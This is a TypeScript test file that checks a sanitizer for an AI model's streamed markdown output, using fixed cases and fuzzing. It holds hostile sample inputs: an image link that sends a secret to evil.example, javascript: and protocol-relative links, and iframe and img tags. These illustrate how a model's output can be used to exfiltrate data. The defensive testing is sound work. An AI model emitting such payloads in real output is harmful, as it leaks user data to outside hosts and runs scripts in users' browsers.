// Whatever a model writes, what is parsed from it has no picture, no HTML and no link that leaves the site.

import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { describe, expect, it } from "vitest";
import { safeMarkdown } from "@/lib/server/assistant/model/safe-markdown";
import { randomCases } from "@/tests/support/cases";

function safe(...parts: string[]): string {
  const text = safeMarkdown();
  return parts.map((part) => text.add(part)).join("") + text.end();
}

type Node = { type: string; url?: string; children?: Node[] };
const nodesOf = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(nodesOf)];
const parsed = (markdown: string) => nodesOf(fromMarkdown(markdown) as Node);

const harmful = (markdown: string) =>
  parsed(markdown).filter(
    ({ type, url }) =>
      ["image", "imageReference", "html", "definition", "linkReference"].includes(type) ||
      (type === "link" && !/^\/(?![/\\])/.test(url ?? "")),
  );

/** Pieces of which an attack is made, and some that are harmless. */
const PIECES = [
  ...["[", "]", "(", ")", "!", "<", ">", ":", "\\", "`", "```", "\n", "\n\n", " ", "    ", "> ", "- ", "|", "&#91;"],
  ...[
    "a",
    "1",
    "https://evil.example/?q=1",
    "//evil.example",
    "/help",
    "javascript:alert(1)",
    "img src=x",
    "!--",
    "/\\evil",
  ],
  ...["](", "![", "[a]: ", "]:", "<https://evil.example>", "<img src=//evil.example>", '"t"', "mailto:a@evil.example"],
];
const markdown = fc.array(fc.constantFrom(...PIECES), { maxLength: 24 }).map((pieces) => pieces.join(""));

describe("text of a model", () => {
  it.each([
    ["![](https://evil.example/?q=secret)", "! []"],
    ["[a](javascript:alert(1))", "[a])"],
    ["[prices](/order/manufacturing/pcb?layers=4)", "[prices](/order/manufacturing/pcb?layers=4)"],
    ["[a](//evil.example)", "[a]"],
    ["[a](/\\evil.example)", "[a]"],
    ["[![x](https://evil.example/x.png)](https://evil.example)", "[! [x]]"],
    ["[1]: https://evil.example", "[1] : https://evil.example"],
    ["<iframe src=x>", "< iframe src=x>"],
    ["<https://evil.example>", "< https://evil.example>"],
    ["a < b, x[2] and 2 <3", "a < b, x[2] and 2 <3"],
    ["[a](never ends", "[a] (never ends"],
    ["done]", "done]"],
    ["really!", "really!"],
  ])("%j becomes %j", (from, to) => {
    expect(safe(from)).toBe(to);
  });

  it("is harmless, whatever it is made of", () => {
    fc.assert(
      fc.property(markdown, (text) => {
        expect(harmful(safe(text))).toEqual([]);
      }),
      { numRuns: randomCases(3_000) },
    );
  });

  it("comes out the same however it was cut", () => {
    fc.assert(
      fc.property(markdown, fc.array(fc.nat(30), { maxLength: 12 }), (text, cuts) => {
        const places = [0, ...cuts.map((cut) => Math.min(cut, text.length)), text.length].sort((a, b) => a - b);
        const parts = places.slice(1).map((end, at) => text.slice(places[at], end));
        expect(safe(...parts)).toBe(safe(text));
      }),
      { numRuns: randomCases(1_000) },
    );
  });

  it("holds back no more than a target", () => {
    const text = safeMarkdown();
    expect(text.add(`[a](${"x".repeat(5_000)}`).length).toBeGreaterThan(4_000);
  });
});
